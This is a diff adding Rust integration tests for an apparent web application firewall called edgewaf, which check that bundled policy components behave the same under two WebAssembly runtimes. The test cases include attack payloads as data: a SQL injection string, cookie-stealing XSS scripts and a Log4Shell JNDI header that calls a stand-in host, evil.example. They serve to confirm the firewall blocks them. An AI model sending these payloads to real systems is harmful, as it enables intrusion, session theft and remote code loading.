@@ -1,0 +1,366 @@
+//! The wasi:http bundle: `edgewaf bundle` composes policy components into one
+//! component, which then serves in front of the echo origin under two runtimes —
+//! `wasmtime serve` (wasmtime-cli 48, installed by `make test`) and the edgewaf
+//! host's `serve-component` — with the same results.
+
+use crate::support::*;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+/// The `wasmtime` CLI: `EDGEWAF_WASMTIME`, else on PATH, else ~/.cargo/bin.
+fn wasmtime_cli() -> PathBuf {
+    let candidates = std::env::var_os("EDGEWAF_WASMTIME")
+        .map(PathBuf::from)
+        .into_iter()
+        .chain(std::iter::once(PathBuf::from("wasmtime")))
+        .chain(std::env::var_os("HOME").map(|h| Path::new(&h).join(".cargo/bin/wasmtime")));
+    for c in candidates {
+        if let Ok(out) = Command::new(&c).arg("--version").output()
+            && out.status.success()
+        {
+            let v = String::from_utf8_lossy(&out.stdout);
+            assert!(
+                v.starts_with("wasmtime 48."),
+                "{} is {v}; the bundle tests need wasmtime-cli 48 (make test installs it)",
+                c.display()
+            );
+            return c;
+        }
+    }
+    panic!(
+        "wasmtime-cli 48 not found: `make test` installs it (cargo install wasmtime-cli --version 48.0.8 --locked)"
+    );
+}
+
+/// Runs `edgewaf bundle`; returns its stdout.
+fn bundle(out: &Path, policies: &[&str], config: &Path, platform: &str) -> String {
+    let mut cmd = edgewaf();
+    cmd.arg("bundle");
+    for p in policies {
+        cmd.arg("--policy").arg(module(p));
+    }
+    cmd.arg("--config")
+        .arg(config)
+        .arg("-o")
+        .arg(out)
+        .args(["--platform", platform])
+        .env("EDGEWAF_BUNDLE_PARTS", modules_dir());
+    let o = cmd.output().unwrap();
+    assert!(
+        o.status.success(),
+        "edgewaf bundle failed: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+#[derive(Clone, Copy, Debug)]
+enum Runtime {
+    WasmtimeServe,
+    EdgewafHost,
+}
+
+/// A runtime serving a bundle; its stderr goes to a file.
+struct Served {
+    addr: String,
+    log: PathBuf,
+    _proc: Proc,
+}
+
+impl Served {
+    fn log(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap_or_default()
+    }
+}
+
+fn serve(rt: Runtime, bundle: &Path, origin: &str, dirs: &[(PathBuf, &str)], dir: &Path) -> Served {
+    let addr = format!("127.0.0.1:{}", free_port());
+    let log = dir.join(format!("{rt:?}-{}.log", free_port()));
+    let env = format!("EDGEWAF_ORIGIN=http://{origin}");
+    let mut cmd = match rt {
+        Runtime::WasmtimeServe => {
+            let mut c = Command::new(wasmtime_cli());
+            // -Scli: the policies (Rust std) import wasi:cli beyond the proxy world.
+            c.args(["serve", "-Scli", "--addr", &addr, "--env", &env]);
+            c
+        }
+        Runtime::EdgewafHost => {
+            let mut c = edgewaf();
+            c.args(["serve-component", "--listen", &addr, "--env", &env]);
+            c
+        }
+    };
+    for (host, guest) in dirs {
+        cmd.arg("--dir").arg(format!("{}::{guest}", host.display()));
+    }
+    let mut child = cmd
+        .arg(bundle)
+        .stdout(Stdio::null())
+        .stderr(std::fs::File::create(&log).unwrap())
+        .spawn()
+        .expect("start the runtime");
+    wait_for_port(&addr, &format!("{rt:?}"), &mut child);
+    Served {
+        addr,
+        log,
+        _proc: Proc {
+            child,
+            name: format!("{rt:?}"),
+        },
+    }
+}
+
+fn get(host: &str, target: &str, extra: &str) -> String {
+    format!(
+        "GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: edgewaf-tests/1.0\r\nAccept: */*\r\n{extra}Connection: close\r\n\r\n"
+    )
+}
+
+/// The requests both bundles get, with the status each must get.
+fn cases(host: &str) -> Vec<(&'static str, String, u16)> {
+    vec![
+        ("benign GET", get(host, "/products?page=2&sort=price", ""), 200),
+        (
+            "benign JSON POST",
+            post(host, "/api/orders", "application/json", r#"{"item":"book","qty":2}"#),
+            200,
+        ),
+        (
+            "SQL injection",
+            get(host, "/item?id=1%27%20OR%20%271%27%3D%271", ""),
+            403,
+        ),
+        (
+            "XSS in a form",
+            post(
+                host,
+                "/comment",
+                "application/x-www-form-urlencoded",
+                "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+            ),
+            403,
+        ),
+        (
+            "Log4Shell",
+            get(host, "/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"),
+            403,
+        ),
+    ]
+}
+
+/// Sends every case; checks the statuses, that allowed requests reached the
+/// origin unchanged and that denials carry a request id and no rule ids.
+fn run_cases(served: &Served, host: &str, rt: Runtime) -> Vec<u16> {
+    let mut statuses = Vec::new();
+    for (what, raw, want) in cases(host) {
+        let r = send(&served.addr, &raw);
+        assert_eq!(r.status, want, "{rt:?} {what}: {} {}\n{}", r.status, r.body, served.log());
+        let id = r.request_id();
+        if r.status == 200 {
+            // The echo origin answers with the request it got.
+            let echoed = r.json();
+            let target = raw.split(' ').nth(1).unwrap();
+            assert_eq!(echoed["target"], target, "{rt:?} {what}");
+            let sent_id = echoed["headers"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .find(|h| h[0] == "x-request-id")
+                .map(|h| h[1].as_str().unwrap().to_string());
+            assert_eq!(sent_id.as_deref(), Some(id.as_str()), "{rt:?} {what}: x-request-id upstream");
+            if raw.starts_with("POST") {
+                let body = raw.split("\r\n\r\n").nth(1).unwrap();
+                assert_eq!(echoed["body"], body, "{rt:?} {what}: body forwarded");
+            }
+        } else {
+            let j = r.json();
+            assert_eq!(j["error"], "request blocked", "{rt:?} {what}");
+            assert_eq!(j["request_id"], id.as_str());
+            assert!(!r.body.contains("sig-") && !r.body.contains("942"), "rule ids leak: {}", r.body);
+        }
+        statuses.push(r.status);
+    }
+    statuses
+}
+
+/// ip-filter + signatures (the demo tenant "shop") bundled once; the same file
+/// under both runtimes.
+#[test]
+fn signatures_bundle_runs_the_same_under_wasmtime_serve_and_the_edgewaf_host() {
+    let dir = tempfile::tempdir().unwrap();
+    let echo = Echo::start();
+    let out = dir.path().join("shop.wasm");
+    let report = bundle(
+        &out,
+        &["ip-filter", "signatures"],
+        &repo().join("policies/shop.toml"),
+        "wasi",
+    );
+    assert!(report.contains("ip-filter -> signatures"), "{report}");
+    assert!(report.contains("wasi:http/incoming-handler@0.2."), "{report}");
+
+    let mut results = Vec::new();
+    for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
+        let served = serve(rt, &out, &echo.addr, &[], dir.path());
+        let statuses = run_cases(&served, "shop.localhost", rt);
+        // The adapter's decision line names the signature that matched.
+        let log = served.log();
+        let sqli = log
+            .lines()
+            .find(|l| l.contains("\"action\":\"deny\"") && l.contains("sig-sqli"))
+            .unwrap_or_else(|| panic!("{rt:?}: no deny line for the SQLi request:\n{log}"));
+        // wasmtime serve prefixes guest output with `stderr [n] :: `.
+        let json = &sqli[sqli.find('{').unwrap()..];
+        let line: serde_json::Value = serde_json::from_str(json).unwrap();
+        assert_eq!(line["tenant"], "shop");
+        assert_eq!(line["policy"], "signatures");
+        println!("{rt:?}: {statuses:?}");
+        results.push(statuses);
+    }
+    assert_eq!(results[0], results[1], "one artifact, two runtimes, same results");
+}
+
+/// The CRS policy bundled the same way (rule files mounted at /crs) blocks the
+/// same attacks under both runtimes.
+#[test]
+fn crs_bundle_blocks_the_same_attacks_under_both_runtimes() {
+    let crs = crs_dir();
+    let dir = tempfile::tempdir().unwrap();
+    let echo = Echo::start();
+    let tenant = dir.path().join("api.toml");
+    std::fs::write(
+        &tenant,
+        format!(
+            "hosts = [\"api.localhost\"]\nupstream = \"http://127.0.0.1:9\"\n\
+             [[policy]]\nmodule = \"crs\"\nmounts = {{ \"/crs\" = {:?} }}\n\
+             [policy.config]\nrules = [\"/crs/crs-setup.conf.example\", \"/crs/rules/*.conf\"]\n\
+             paranoia_level = 1\n",
+            crs.display().to_string()
+        ),
+    )
+    .unwrap();
+    let out = dir.path().join("api.wasm");
+    let report = bundle(&out, &["crs"], &tenant, "wasi");
+    assert!(report.contains("mount needed"), "{report}");
+
+    let mut results = Vec::new();
+    for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
+        let served = serve(rt, &out, &echo.addr, &[(crs.clone(), "/crs")], dir.path());
+        let statuses = run_cases(&served, "api.localhost", rt);
+        let log = served.log();
+        assert!(
+            log.lines().any(|l| l.contains("\"action\":\"deny\"") && l.contains("\"942")),
+            "{rt:?}: no CRS SQLi rule (942xxx) in the decision lines:\n{log}"
+        );
+        println!("{rt:?}: {statuses:?}");
+        results.push(statuses);
+    }
+    assert_eq!(results[0], results[1]);
+}
+
+fn crs_dir() -> PathBuf {
+    let p = std::env::var_os("EDGEWAF_CRS_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| repo().join("../shared/crs/v4.28.0"));
+    assert!(
+        p.join("rules").is_dir(),
+        "CRS release not found at {} (set EDGEWAF_CRS_DIR)",
+        p.display()
+    );
+    p.canonicalize().unwrap()
+}
+
+/// Settings reach the bundle from the runtime: without EDGEWAF_ORIGIN the
+/// tenant's upstream is used (here nothing listens there: 502, not a hang).
+#[test]
+fn without_an_origin_setting_the_tenant_upstream_is_used() {
+    let dir = tempfile::tempdir().unwrap();
+    let dead = format!("127.0.0.1:{}", free_port());
+    let tenant = dir.path().join("t.toml");
+    std::fs::write(
+        &tenant,
+        format!("hosts = [\"t\"]\nupstream = \"http://{dead}\"\n[[policy]]\nmodule = \"signatures\"\n"),
+    )
+    .unwrap();
+    let out = dir.path().join("t.wasm");
+    bundle(&out, &["signatures"], &tenant, "wasi");
+    let addr = format!("127.0.0.1:{}", free_port());
+    let mut child = edgewaf()
+        .args(["serve-component", "--listen", &addr])
+        .arg(&out)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_for_port(&addr, "serve-component", &mut child);
+    let _p = Proc { child, name: "serve-component".into() };
+    let r = send(&addr, &get("t", "/", ""));
+    assert_eq!(r.status, 502, "{}", r.body);
+    assert_eq!(r.json()["error"], "upstream unavailable");
+    // A denial needs no origin at all.
+    let r = send(&addr, &get("t", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""));
+    assert_eq!(r.status, 403);
+}
+
+/// Bad inputs to `edgewaf bundle` get a clear error and write nothing.
+#[test]
+fn bundle_refuses_bad_inputs_clearly() {
+    let dir = tempfile::tempdir().unwrap();
+    let tenant = dir.path().join("t.toml");
+    std::fs::write(&tenant, "hosts = [\"t\"]\nupstream = \"http://127.0.0.1:9\"\n").unwrap();
+    let junk = dir.path().join("junk.wasm");
+    std::fs::write(&junk, b"\0asm not really").unwrap();
+    let out = dir.path().join("out.wasm");
+    let run = |policy: &Path| {
+        let o = edgewaf()
+            .arg("bundle")
+            .arg("--policy")
+            .arg(policy)
+            .arg("--config")
+            .arg(&tenant)
+            .arg("-o")
+            .arg(&out)
+            .env("EDGEWAF_BUNDLE_PARTS", modules_dir())
+            .output()
+            .unwrap();
+        assert!(!o.status.success());
+        String::from_utf8_lossy(&o.stderr).into_owned()
+    };
+    let e = run(&junk);
+    assert!(e.contains("not a WebAssembly component"), "{e}");
+    // A component that is not a policy.
+    let e = run(&module("edge-platform"));
+    assert!(e.contains("does not export edgewaf:policy/filter"), "{e}");
+    let e = run(&dir.path().join("missing.wasm"));
+    assert!(e.contains("reading") && e.contains("missing.wasm"), "{e}");
+    assert!(!out.exists());
+}
+
+/// The Spin flavour composes, and imports nothing but wasi 0.2 interfaces and
+/// Spin's key-value and variables (Spin 4 provides exactly these); nothing of
+/// edgewaf's is left for the runtime to provide.
+#[test]
+fn spin_bundle_imports_only_what_spin_provides() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("spin.wasm");
+    bundle(
+        &out,
+        &["ip-filter", "signatures"],
+        &repo().join("policies/shop.toml"),
+        "spin",
+    );
+    let engine = wasmtime::Engine::default();
+    let component = wasmtime::component::Component::from_file(&engine, &out).unwrap();
+    let ty = component.component_type();
+    let imports: Vec<String> = ty.imports(&engine).map(|(n, _)| n.to_string()).collect();
+    assert!(imports.iter().any(|i| i == "fermyon:spin/key-value@2.0.0"), "{imports:?}");
+    assert!(imports.iter().any(|i| i == "fermyon:spin/variables@2.0.0"), "{imports:?}");
+    for i in &imports {
+        assert!(
+            i.starts_with("wasi:") && i.contains("@0.2.") || i.starts_with("fermyon:spin/"),
+            "unexpected import {i}"
+        );
+    }
+    let exports: Vec<String> = ty.exports(&engine).map(|(n, _)| n.to_string()).collect();
+    assert_eq!(exports, ["wasi:http/incoming-handler@0.2.4"]);
+}
